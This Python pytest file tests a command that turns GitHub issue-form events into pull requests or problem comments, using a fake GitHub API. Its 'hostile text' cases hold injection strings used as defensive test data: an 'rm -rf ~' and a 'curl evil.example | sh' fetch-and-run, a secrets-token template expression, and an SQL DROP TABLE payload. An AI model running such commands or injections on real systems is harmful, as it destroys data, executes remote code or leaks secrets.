"""`handbook issue-to-pr`: an issue event in, a pull request (or a comment) out.

The command is fed issue events in the shape GitHub sends them
(tests/cases_issue_form/event-opened.json: an `issues` event, trimmed to the fields
GitHub documents; its body is the form of filled.md with GitHub's CRLF line ends), and
the events an editor's next steps make: the issue edited, answers that cannot be used,
and hostile text. GitHub's REST API is a stand-in on the loopback interface that keeps
branches, files, pull requests and comments as GitHub would, and records every call.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import http.server
import json
import re
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest

from site_builder.content.frontmatter import parse
from site_builder.editors import issue_pr

from .helpers.browser import running
from .helpers.projects import TESTS

EVENT = TESTS / "cases_issue_form" / "event-opened.json"
CREATED = "practices/hydrogen-valley-of-styria-from-lab-to-bus-depot.md"
BRANCH = "practice/issue-12"
BIN = Path(sys.executable).parent


class FakeGitHub:
    """What the command asks of GitHub's API, kept in memory."""

    def __init__(self) -> None:
        self.refs = {"main": "a" * 40}
        self.files: dict[str, dict[str, str]] = {}  # branch -> path -> text
        self.pulls: list[dict] = []
        self.comments: list[dict] = []
        self.dispatches: list[dict] = []
        self.calls: list[tuple[str, str]] = []
        self.refuse = False

    def answer(self, method: str, path: str, body: dict | None) -> tuple[int, object]:
        self.calls.append((method, path))
        if self.refuse:
            return 403, {"message": "Resource not accessible by integration"}
        route, _, query = path.partition("?")
        params = urllib.parse.parse_qs(query)
        route = urllib.parse.unquote(route.removeprefix("/repos/cluster-handbook/handbook/"))
        if method == "GET" and route.startswith("git/ref/heads/"):
            name = route.removeprefix("git/ref/heads/")
            if name not in self.refs:
                return 404, {"message": "Not Found"}
            return 200, {"ref": f"refs/heads/{name}", "object": {"sha": self.refs[name]}}
        if method == "POST" and route == "git/refs":
            name = body["ref"].removeprefix("refs/heads/")
            assert name not in self.refs and body["sha"] == self.refs["main"]
            self.refs[name] = body["sha"]
            self.files[name] = {}
            return 201, {"ref": body["ref"]}
        if route.startswith("contents/"):
            name = route.removeprefix("contents/")
            branch = params.get("ref", [None])[0] if method == "GET" else body["branch"]
            files = self.files.setdefault(branch, {})
            there = files.get(name)
            if method == "GET":
                if there is None:
                    return 404, {"message": "Not Found"}
                encoded = base64.b64encode(there.encode()).decode()
                return 200, {"sha": sha(there), "content": encoded}
            if there is not None and body.get("sha") != sha(there):
                return 409, {"message": f"{name} does not match {body.get('sha')}"}
            if method == "PUT":
                files[name] = base64.b64decode(body["content"]).decode("utf-8")
                return 200, {"content": {"path": name}}
            if method == "DELETE":
                del files[name]
                return 200, {}
        if method == "GET" and route.startswith("compare/main..."):
            branch = route.removeprefix("compare/main...")
            added = self.files.get(branch, {})
            return 200, {
                "files": [
                    {"filename": p, "status": "added", "sha": sha(t)} for p, t in added.items()
                ]
            }
        if route == "pulls":
            if method == "GET":
                head = params["head"][0]
                return 200, [
                    p for p in self.pulls if f"cluster-handbook:{p['head']}" == head and p["open"]
                ]
            pull = {**body, "number": 100 + len(self.pulls), "open": True}
            self.pulls.append(pull)
            return 201, pull
        if method == "PATCH" and route.startswith("pulls/"):
            pull = next(p for p in self.pulls if p["number"] == int(route.split("/")[1]))
            pull.update(body)
            return 200, pull
        if method == "POST" and route == f"actions/workflows/{issue_pr.CHECKS}/dispatches":
            self.dispatches.append(body)
            return 204, None
        if route.startswith("issues/") and route.endswith("/comments"):
            if method == "GET":
                return 200, list(self.comments)
            comment = {"id": 500 + len(self.comments), "body": body["body"]}
            self.comments.append(comment)
            return 201, comment
        if method == "PATCH" and route.startswith("issues/comments/"):
            comment = next(c for c in self.comments if c["id"] == int(route.split("/")[-1]))
            comment["body"] = body["body"]
            return 200, comment
        return 404, {"message": f"no such route in the stand-in: {method} {route}"}


def sha(text: str) -> str:
    return hashlib.sha1(text.encode()).hexdigest()


@pytest.fixture
def github():
    fake = FakeGitHub()

    class Handler(http.server.BaseHTTPRequestHandler):
        def _answer(self) -> None:
            assert self.headers["Authorization"] == "Bearer test-token"
            length = int(self.headers.get("Content-Length") or 0)
            body = json.loads(self.rfile.read(length)) if length else None
            status, payload = fake.answer(self.command, self.path, body)
            data = b"" if payload is None else json.dumps(payload).encode()
            self.send_response(status)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _answer

        def log_message(self, *args) -> None:
            pass

    with running(http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as base:
        fake.api = base
        yield fake


def event(**changes) -> dict:
    recorded = json.loads(EVENT.read_text(encoding="utf-8"))
    made = copy.deepcopy(recorded)
    for key, value in changes.items():
        if key == "action":
            made["action"] = value
        else:
            made["issue"][key] = value
    return made


def body_with(old: str, new: str) -> str:
    body = event()["issue"]["body"]
    assert old in body, "the case no longer matches the recorded event"
    return body.replace(old, new, 1)


def run(fake: FakeGitHub, corpus: Path, payload: dict) -> str:
    client = issue_pr.GitHub(fake.api, "cluster-handbook/handbook", "test-token")
    return issue_pr.run(payload, corpus, client)


def practice_of(fake: FakeGitHub, path: str = CREATED) -> dict:
    text = fake.files[BRANCH][path]
    _, meta, _ = text.split("---\n", 2)
    return parse(meta, first_line=2).data


# -- a valid form -----------------------------------------------------------------------


def test_an_opened_issue_becomes_a_pull_request_with_the_practice_file(
    github: FakeGitHub, corpus: Path, tmp_path: Path
) -> None:
    said = run(github, corpus, event())
    assert said == "issue #12: pull request #100 opened"
    assert github.refs[BRANCH] == github.refs["main"]
    # the very file `handbook from-issue` makes of the same text
    body = tmp_path / "issue.md"
    body.write_text(event()["issue"]["body"], encoding="utf-8", newline="")
    out = tmp_path / "made"
    from site_builder.cli.main import main

    assert main(["--root", str(corpus), "from-issue", str(body), "--output-dir", str(out)]) == 0
    assert github.files[BRANCH] == {CREATED: (out / Path(CREATED).name).read_text()}
    [pull] = github.pulls
    assert (pull["head"], pull["base"]) == (BRANCH, "main")
    assert pull["body"].startswith("Closes #12.")
    assert github.dispatches == [{"ref": BRANCH}]  # the pull request's checks, started
    [comment] = github.comments
    assert "pull request #100" in comment["body"]
    assert not (corpus / CREATED).exists()  # the checkout is left as it was


def test_editing_the_issue_updates_the_same_pull_request(github: FakeGitHub, corpus: Path) -> None:
    run(github, corpus, event())
    renamed = body_with(
        "Hydrogen Valley of Styria: from lab to bus depot", "Hydrogen Valley of Styria"
    )
    said = run(github, corpus, event(action="edited", body=renamed))
    assert said == "issue #12: pull request #100 updated"
    assert list(github.files[BRANCH]) == ["practices/hydrogen-valley-of-styria.md"]
    assert practice_of(github, "practices/hydrogen-valley-of-styria.md")["title"] == (
        "Hydrogen Valley of Styria"
    )
    assert len(github.pulls) == 1 and github.pulls[0]["title"] == (
        "Practice: hydrogen-valley-of-styria"
    )
    assert len(github.comments) == 1  # updated, not a second one
    assert len(github.dispatches) == 2


def test_an_edit_that_changes_nothing_writes_nothing(github: FakeGitHub, corpus: Path) -> None:
    run(github, corpus, event())
    puts = [c for c in github.calls if c[0] == "PUT"]
    run(github, corpus, event(action="edited"))
    assert [c for c in github.calls if c[0] == "PUT"] == puts


# -- answers that cannot be used --------------------------------------------------------


def test_unusable_answers_are_told_on_the_issue_by_question_and_no_branch_is_made(
    github: FakeGitHub, corpus: Path
) -> None:
    bad = body_with("### Country\r\n\r\nAustria", "### Country\r\n\r\nAtlantis")
    bad = bad.replace("- [X] Renewable energy", "- [ ] Renewable energy").replace(
        "- [X] Mobility, transport and automotive", "- [ ] Mobility, transport and automotive"
    )
    said = run(github, corpus, event(body=bad))
    assert said == "issue #12: 2 problem(s) told on the issue"
    assert BRANCH not in github.refs and github.pulls == [] and github.dispatches == []
    [comment] = github.comments
    assert "“Country”" in comment["body"] and "Atlantis" in comment["body"]
    assert "“Industrial ecosystems”" in comment["body"]
    assert re.search(r"at line \d+ of the issue's text", comment["body"])
    fixed = bad.replace("Atlantis", "Austria")
    run(github, corpus, event(action="edited", body=fixed))
    assert len(github.comments) == 1  # the same comment, updated
    assert "“Country”" not in github.comments[0]["body"]


def test_a_practice_already_in_the_handbook_is_a_problem_not_an_overwrite(
    github: FakeGitHub, corpus: Path
) -> None:
    existing = (corpus / "practices" / "ribes-nest-veneto.md").read_text()
    (corpus / CREATED).write_text(
        existing.replace("ribes-nest-veneto", Path(CREATED).stem), encoding="utf-8"
    )
    run(github, corpus, event())
    assert "already in the handbook" in github.comments[0]["body"]
    assert github.pulls == []


@pytest.mark.parametrize(
    "payload",
    [
        event(labels=[]),
        event(action="closed"),
        event(action="deleted"),
        event(labels=[{"name": "bug"}]),
    ],
    ids=["no label", "closed", "deleted", "another label"],
)
def test_other_issues_and_other_actions_are_left_alone(
    github: FakeGitHub, corpus: Path, payload: dict
) -> None:
    assert "nothing to do" in run(github, corpus, payload)
    assert github.calls == []


# -- hostile text -------------------------------------------------------------------------

HOSTILE = [
    "`rm -rf ~` and $(curl evil.example | sh)",
    "${{ secrets.GITHUB_TOKEN }} ${{ github.event.issue.title }}",
    '\'; DROP TABLE practices; -- "quoted" \\ backslash',
    "line\u2028separator \u202eRTL",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_kept_as_text_in_the_practice(
    github: FakeGitHub, corpus: Path, text: str
) -> None:
    body = body_with("Green Tech Cluster Styria GmbH", f"Cluster {text}")
    run(github, corpus, event(title=text, body=body))
    if github.pulls:
        assert practice_of(github)["organisation"] == f"Cluster {text}"
        assert text not in github.pulls[0]["head"]
    else:  # what the validator refuses is told on the issue
        assert issue_pr.MARKER in github.comments[0]["body"]
    assert all(ref.startswith(("main", "practice/issue-")) for ref in github.refs)


def test_a_body_of_100_kb_is_handled(github: FakeGitHub, corpus: Path) -> None:
    long = "Twelve SMEs met every week. " * 3700  # about 100 kB
    body = body_with("### Actions\r\n\r\n", f"### Actions\r\n\r\n{long}\r\n\r\n")
    assert len(body.encode()) > 100_000
    said = run(github, corpus, event(body=body))
    assert said.startswith("issue #12: ")
    assert github.pulls or "“Actions”" in github.comments[0]["body"]


# -- the command as the workflow runs it ---------------------------------------------------


def command(github: FakeGitHub, corpus: Path, payload_file: Path, **env: str):
    return subprocess.run(
        [str(BIN / "handbook"), "--root", str(corpus), "issue-to-pr"],
        capture_output=True,
        text=True,
        env={
            "PATH": f"{BIN}:/usr/bin:/bin",
            "GITHUB_EVENT_PATH": str(payload_file),
            "GITHUB_REPOSITORY": "cluster-handbook/handbook",
            "GITHUB_API_URL": github.api,
            "GITHUB_TOKEN": "test-token",
            **env,
        },
        timeout=120,
    )


def test_the_command_reads_the_event_file_the_runner_names(
    github: FakeGitHub, corpus: Path, tmp_path: Path
) -> None:
    payload = tmp_path / "event.json"
    payload.write_text(json.dumps(event()), encoding="utf-8")
    done = command(github, corpus, payload)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "issue #12: pull request #100 opened"


def test_the_command_says_what_is_missing_or_refused(
    github: FakeGitHub, corpus: Path, tmp_path: Path
) -> None:
    payload = tmp_path / "event.json"
    payload.write_text(json.dumps(event()), encoding="utf-8")
    missing = command(github, corpus, payload, GITHUB_TOKEN="")
    assert missing.returncode == 2 and "GITHUB_TOKEN not set" in missing.stderr
    github.refuse = True
    refused = command(github, corpus, payload)
    assert refused.returncode == 1
    assert "GitHub refused" in refused.stderr and "HTTP 403" in refused.stderr
    assert "Traceback" not in refused.stderr
    payload.write_text("{not json", encoding="utf-8")
    broken = command(github, corpus, payload)
    assert broken.returncode == 2 and "cannot read the event" in broken.stderr
